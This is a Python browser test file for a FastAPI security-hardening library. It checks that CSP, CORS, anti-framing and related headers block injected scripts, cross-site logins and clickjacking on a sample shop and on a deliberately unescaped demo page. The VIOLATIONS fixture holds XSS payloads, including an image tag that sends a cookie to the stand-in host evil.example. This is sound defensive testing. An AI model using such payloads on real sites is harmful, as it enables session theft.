"""What the header fields do in a real browser: to the shop's page, to other sites, and to injected scripts."""

from pathlib import Path
from typing import Any

import pytest
from fastapi import FastAPI, Request
from fastapi.responses import HTMLResponse, PlainTextResponse
from fastapi.templating import Jinja2Templates
from jinja2 import DictLoader, Environment
from playwright.sync_api import Locator, Route, expect

from fastapi_hardening import Hardening, RateLimit, SecurityHeaders, Settings, csp_nonce_context, harden
from fastapi_hardening.security.security_headers import STRICT_CSP
from sample_app.main import create_app
from tests.browser.conftest import Serve, Tab, until

STRICTLY = SecurityHeaders(
    content_security_policy=STRICT_CSP.replace("; upgrade-insecure-requests", ""),
    content_security_policy_report_only=None,
)
PAGE = """<!doctype html><html lang="en"><head><title>Page</title><link rel="icon" href="data:,"></head><body>
<script nonce="{{ csp_nonce() }}">document.title = "ours"</script>{{ comment | safe }}</body></html>"""


@pytest.fixture
def shop(tmp_path: Path, serve: Serve) -> str:
    """Give the address of the sample shop, with a new database."""
    return serve(create_app(f"sqlite+aiosqlite:///{tmp_path / 'shop.sqlite3'}", "the password of the tests"))


def blog() -> tuple[FastAPI, Hardening]:
    """An application that shows comments as they were written, which is its mistake."""
    app = FastAPI()
    environment = Environment(loader=DictLoader({"page.html": PAGE}), autoescape=True)
    templates = Jinja2Templates(env=environment, context_processors=[csp_nonce_context])

    @app.get("/page", response_class=HTMLResponse, dependencies=[STRICTLY])
    async def page(request: Request, comment: str = "") -> HTMLResponse:
        return templates.TemplateResponse(request, "page.html", {"comment": comment})

    return app, harden(app, Settings(_env_file=None, csp_reports={"enabled": True}))


def test_shop_sells_under_the_strictest_policy(shop: str, tab: Tab) -> None:
    """A product goes into the basket, the order is placed and confirmed, and nothing is blocked."""
    tab.page.goto(shop)
    tab.page.locator("#products button").first.click()
    expect(tab.page.locator("#basket li")).to_have_count(1)
    tab.page.get_by_role("textbox", name="Name").fill("Ada")
    tab.page.get_by_role("textbox", name="E-mail").fill("ada@example.org")
    tab.page.locator("#order button").click()
    expect(tab.page.locator("#order-status")).to_contain_text("is confirmed")
    tab.picture("shop")
    assert tab.complaints == []


def fill_in(form: Locator, **fields: str) -> None:
    """Types into the fields of a form, and sends it."""
    for name, value in fields.items():
        form.locator(f"[name={name}]").fill(value)
    form.locator("button").click()


def test_somebody_registers_buys_signs_out_and_in_again(shop: str, tab: Tab) -> None:
    """The basket comes along, the order is told live, and signing out leaves nothing behind; nothing is blocked."""
    ada = {"email": "ada@example.org", "password": "correct horse battery staple"}
    tab.page.goto(shop)
    tab.page.locator("#products button").first.click()
    expect(tab.page.locator("#basket li")).to_have_count(1)
    tab.page.get_by_role("link", name="Sign in").click()
    tab.picture("shop-login")
    fill_in(tab.page.locator("#register"), name="Ada", **ada)
    expect(tab.page.locator("#who")).to_have_text("Ada")
    expect(tab.page.locator("#basket li")).to_have_count(1)
    fill_in(tab.page.locator("#order"), name="Ada", email=ada["email"])
    expect(tab.page.locator("#order-events .status")).to_have_text("confirmed")
    tab.picture("shop-signed-in")
    with tab.page.expect_navigation():
        tab.page.get_by_role("button", name="Sign out").click()
    expect(tab.page.get_by_role("link", name="Sign in")).to_be_visible()
    expect(tab.page.get_by_role("button", name="Sign out")).to_be_hidden()
    assert "session" not in {cookie["name"] for cookie in tab.page.context.cookies()}
    tab.page.goto(f"{shop}/login")
    fill_in(tab.page.locator("#login"), **ada)
    expect(tab.page.locator("#who")).to_have_text("Ada")
    expect(tab.page.locator("#order-events .status")).to_have_text("confirmed")
    assert tab.complaints == []


def test_wrong_password_is_told_on_the_page(shop: str, tab: Tab) -> None:
    """With the id that finds it in the log, and without leaving the page."""
    tab.page.goto(f"{shop}/login")
    fill_in(tab.page.locator("#login"), email="ada@example.org", password="a guess")
    expect(tab.page.locator("#message")).to_contain_text("The e-mail or the password is wrong. (reference ")
    tab.picture("shop-login-refused")
    assert tab.page.url == f"{shop}/login"


def test_page_of_another_site_signs_nobody_in(shop: str, serve: Serve, tab: Tab) -> None:
    """It can have a browser send the form, which the shop refuses; and a websocket, which it refuses as well."""
    site = FastAPI()
    site.add_api_route("/", lambda: HTMLResponse("<!doctype html><link rel=icon href='data:,'>"))
    tab.page.goto(serve(site, "localhost"))
    body = '{"email": "admin@shop.example", "password": "the password of the tests"}'
    send = f"fetch('{shop}/api/session', {{method: 'POST', mode: 'no-cors', body: '{body}', credentials: 'include'}})"
    tab.page.evaluate(f"{send}.catch(() => null)")
    assert tab.page.context.cookies() == []
    address = shop.replace("http", "ws")
    opened = tab.page.evaluate(
        f"""new Promise((told) => {{
            const socket = new WebSocket("{address}/api/orders/live");
            socket.onopen = () => told(true);
            socket.onerror = () => told(false);
        }})"""
    )
    assert opened is False


def test_order_whose_answer_is_lost_is_placed_once(shop: str, tab: Tab) -> None:
    """The second click has the first one's order."""
    placed = []

    def lose_the_first(route: Route) -> None:
        answer = route.fetch()
        placed.append(answer.json()["id"])
        if len(placed) == 1:
            route.abort()
        else:
            route.fulfill(response=answer)

    tab.page.route("**/api/orders", lose_the_first)
    tab.page.goto(shop)
    tab.page.locator("#products button").first.click()
    expect(tab.page.locator("#basket li")).to_have_count(1)
    fill_in(tab.page.locator("#order"), name="Ada", email="ada@example.org")
    expect(tab.page.locator("#message")).not_to_be_empty()
    tab.page.locator("#order button").click()
    expect(tab.page.locator("#basket li")).to_have_count(0)
    expect(tab.page.locator("#products .stock").first).to_have_text("39 left")
    assert len(placed) == 2
    assert placed[0] == placed[1]


def test_page_shows_what_is_nice_to_have(shop: str, tab: Tab) -> None:
    """Other currencies and what others bought, where somebody knows them; a suggestion goes into the basket."""
    tab.page.route("**/api/rates", lambda route: route.fulfill(json={"rates": {"USD": 2}}))
    suggestions = [{"id": 1, "name": "Enamel mug"}, {"id": 2, "name": "Linen apron"}]
    tab.page.route("**/bought-together", lambda route: route.fulfill(json=suggestions))
    tab.page.goto(shop)
    tab.page.locator("#products button").first.click()
    expect(tab.page.locator("#elsewhere")).to_contain_text("29.00")
    expect(tab.page.locator("#suggestions .name")).to_have_text("Linen apron")
    tab.picture("shop-suggestions")
    tab.page.get_by_role("button", name="Add Linen apron").last.click()
    expect(tab.page.locator("#basket li")).to_have_count(2)
    expect(tab.page.locator("#together")).to_be_hidden()
    assert tab.complaints == []


def test_page_of_the_shop_that_is_hosted_elsewhere_uses_it(
    serve: Serve, tab: Tab, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """It signs in, acts with the session, and reads what it is told, also a 429; a page of another origin does not."""
    site = FastAPI()
    site.add_api_route("/", lambda: HTMLResponse("<!doctype html><link rel=icon href='data:,'>"))
    ours, theirs = serve(site), serve(site)
    monkeypatch.setenv("SHOP_ORIGINS", ours)
    shop = serve(create_app(f"sqlite+aiosqlite:///{tmp_path / 'shop.sqlite3'}", "the password of the tests"))

    def ask(method: str, path: str, body: str = "") -> Any:
        """The status and the body that the page reads; nothing if the browser keeps them from it."""
        sent = {"method": method, "credentials": "include"} | ({"body": body} if body else {})
        return tab.page.evaluate(
            """([address, sent]) => fetch(address, {headers: {"Content-Type": "application/json"}, ...sent})
                .then(async (answer) => [answer.status, await answer.json()]).catch(() => null)""",
            [shop + path, sent],
        )

    admin = '{"email": "admin@shop.example", "password": "the password of the tests"}'
    tab.page.goto(ours)
    assert ask("POST", "/api/session", admin)[0] == 200
    assert ask("PUT", "/api/basket/1", '{"quantity": 2}')[1]["total_cents"] == 2900
    refused = [ask("POST", "/api/session", admin.replace("tests", "guess"))[0] for _ in range(10)]
    assert refused[-1] == 429
    tab.page.goto(theirs)
    assert ask("GET", "/api/products") is None
    assert ask("PUT", "/api/basket/1", '{"quantity": 3}') is None
    tab.page.goto(ours)
    assert ask("GET", "/api/basket")[1]["total_cents"] == 2900


def test_documentation_of_the_shop_shows_every_operation(shop: str, tab: Tab) -> None:
    """Without a foreign host and without a complaint."""
    tab.page.goto(f"{shop}/docs")
    expect(tab.page.locator(".opblock").first).to_be_visible()
    operations = tab.page.evaluate("fetch('/openapi.json').then(r => r.json())")
    count = sum(len(methods) for methods in operations["paths"].values())
    expect(tab.page.locator(".opblock")).to_have_count(count)
    tab.picture("shop-docs")
    assert tab.complaints == []
    assert all(url.startswith((shop, "data:")) for url in tab.requested)


def test_script_of_the_template_runs_and_an_injected_one_does_not(serve: Serve, tab: Tab) -> None:
    """The nonce is in the template's; nobody could know it beforehand."""
    app, _ = blog()
    comment = "%3Cscript%3Edocument.title='theirs'%3C/script%3E"
    tab.page.goto(f"{serve(app)}/page?comment={comment}")
    assert tab.page.title() == "ours"
    assert len(tab.complaints) == 1
    assert "Content Security Policy" in tab.complaints[0]


VIOLATIONS = {
    "script-src-elem": ("<script>document.title='theirs'</script>", "inline"),
    "img-src": ("<img src=https://evil.example/pixel.png?cookie=secret>", "https://evil.example"),
}


@pytest.mark.parametrize("tls", [True, False], ids=["reports+json", "csp-report"])
@pytest.mark.parametrize("directive", VIOLATIONS)
def test_violation_is_reported_and_counted(
    serve: Serve, tab: Tab, caplog: pytest.LogCaptureFixture, directive: str, tls: bool
) -> None:
    """The browser tells the report route, by itself, and the metrics show it; in the older form where TLS is not."""
    app, _ = blog()
    comment, blocked = VIOLATIONS[directive]
    address = serve(app, "localhost", tls=tls)
    sample = f'hardening_csp_violations_total{{directive="{directive}",disposition="enforce"}} 1.0'
    tab.page.goto(f"{address}/page?comment={comment}")

    def counted() -> bool:
        return sample in tab.page.request.get(f"{address}/metrics", ignore_https_errors=True).text()

    until(counted, sample)
    [told] = [record.getMessage() for record in caplog.records if record.name == "fastapi_hardening.csp_reports"]
    assert f"{blocked} was blocked by {directive} on /page" in told
    assert "secret" not in told


def test_policy_that_only_reports_blocks_nothing(serve: Serve, tab: Tab) -> None:
    """By default a page with inline code works, and what the strict policy would block is counted."""
    app = FastAPI()

    @app.get("/page", response_class=HTMLResponse)
    async def page() -> str:
        return "<!doctype html><title>Page</title><script>document.title = 'ours'</script>"

    handle = harden(app, Settings(_env_file=None, csp_reports={"enabled": True}))
    tab.page.goto(f"{serve(app)}/page")
    assert tab.page.title() == "ours"
    sample = b'hardening_csp_violations_total{directive="script-src-elem",disposition="report"} 1.0'
    until(lambda: sample in handle.metrics.expose(), "the violation is counted")


def test_page_of_another_origin_reads_a_refusal(serve: Serve, tab: Tab) -> None:
    """It sees a 429 with its problem, and when to come back: not the riddle that is called a CORS error."""
    site, api = FastAPI(), FastAPI()
    site.add_api_route("/", lambda: HTMLResponse("<!doctype html><link rel=icon href='data:,'>"))
    origin = serve(site)

    @api.get("/limited", dependencies=[RateLimit("1/minute")])
    async def limited() -> str:
        return "ok"

    harden(api, Settings(_env_file=None, cors={"allow_origins": [origin], "expose_headers": ["Retry-After"]}))
    address = serve(api)
    tab.page.goto(origin)
    read = f"""async () => {{
        const answer = await fetch("{address}/limited");
        return [answer.status, answer.headers.get("retry-after"), await answer.json()];
    }}"""
    assert tab.page.evaluate(read)[0] == 200
    status, after, problem = tab.page.evaluate(read)
    assert (status, problem["title"]) == (429, "Quota exceeded")
    assert 0 < int(after) <= 60


def test_page_of_an_origin_that_is_not_allowed_reads_nothing(serve: Serve, tab: Tab) -> None:
    """The browser keeps the answer from it."""
    site, api = FastAPI(), FastAPI()
    site.add_api_route("/", lambda: HTMLResponse("<!doctype html><link rel=icon href='data:,'>"))
    api.add_api_route("/data", lambda: PlainTextResponse("secret"))
    harden(api, Settings(_env_file=None, cors={"allow_origins": ["https://friend.example"]}))
    address = serve(api)
    tab.page.goto(serve(site))
    assert tab.page.evaluate(f"fetch('{address}/data').then(a => a.text()).catch(e => e.name)") == "TypeError"


@pytest.mark.parametrize(("hardened", "shown"), [(True, False), (False, True)])
def test_page_cannot_be_framed(serve: Serve, tab: Tab, hardened: bool, shown: bool) -> None:
    """Another site that lays it under its own buttons gets an empty frame; without the fields it would get the page."""
    app, site = FastAPI(), FastAPI()
    app.add_api_route("/", lambda: HTMLResponse("<!doctype html><button>Pay</button>"))
    if hardened:
        harden(app, Settings(_env_file=None))
    address = serve(app)
    site.add_api_route("/", lambda: HTMLResponse(f"<!doctype html><iframe src='{address}/'></iframe>"))
    tab.page.goto(serve(site, "localhost"))
    frame = tab.page.frames[1]
    assert (frame.locator("button").count() == 1) == shown
    assert any("frame-ancestors" in complaint for complaint in tab.complaints) == (not shown)


def test_browser_holds_what_the_fields_say(serve: Serve, tab: Tab) -> None:
    """A page has no camera, tells another origin nothing of its path, and loses the window that opened it."""
    app, other = FastAPI(), FastAPI()
    seen: list[Any] = []

    @other.get("/", response_class=HTMLResponse)
    async def arrived(request: Request) -> str:
        seen.append(request.headers.get("referer"))
        return "<!doctype html>"

    address = serve(other, "localhost")
    app.add_api_route("/private", lambda: HTMLResponse(f"<!doctype html><a href='{address}/'>out</a>"))
    harden(app, Settings(_env_file=None))
    mine = serve(app)
    tab.page.goto(f"{mine}/private?token=secret")
    assert tab.page.evaluate("document.featurePolicy.allowsFeature('camera')") is False
    tab.page.get_by_role("link").click()
    tab.page.wait_for_url(f"{address}/")
    assert seen == [f"{mine}/"]
    with tab.page.expect_popup() as opened:
        tab.page.evaluate(f"window.open('{mine}/private')")
    opened.value.wait_for_load_state()
    assert opened.value.evaluate("window.opener") is None
